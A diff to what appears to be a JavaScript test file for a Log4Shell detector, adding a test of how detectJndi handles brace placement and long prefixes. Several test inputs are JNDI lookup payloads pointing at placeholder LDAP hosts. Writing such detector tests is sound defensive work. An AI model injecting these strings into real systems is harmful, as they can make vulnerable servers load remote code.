@@ -199,3 +199,12 @@ t.test('adversarial 1 MB inputs return without throwing', async (t) => {
   }
   t.equal(detectJndi('x'.repeat(MB) + '${jndi:ldap://a/b}')?.confidence, 'high');
 });
+
+t.test('the `{` pre-check: lookups are found wherever the first brace is', async (t) => {
+  t.equal(detectJndi('$('.repeat(100)), undefined);
+  t.equal(detectJndi('{${jndi:ldap://a.test/x}}')?.confidence, 'high');
+  t.equal(detectJndi('${jndi:ldap://a.test/x}')?.confidence, 'high');
+  t.equal(detectJndi('a{b}${jndi:ldap://a.test/x}')?.confidence, 'high');
+  t.equal(detectJndi('$('.repeat(100) + '${jndi:ldap://a.test/x}')?.confidence, 'high');
+  t.equal(detectJndi('$ {jndi:ldap://a.test/x}'), undefined);
+});
